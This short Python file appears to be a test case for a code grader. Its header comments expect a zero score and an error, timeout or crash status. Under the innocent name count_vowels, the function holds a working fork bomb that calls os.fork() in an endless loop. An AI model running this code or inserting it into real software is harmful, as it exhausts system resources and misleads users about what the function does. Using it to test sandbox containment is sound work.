# must: score=0
# must: status=error|timeout|crashed|failed|memory
"""A fork bomb."""

import os


def count_vowels(text):
    while True:
        os.fork()
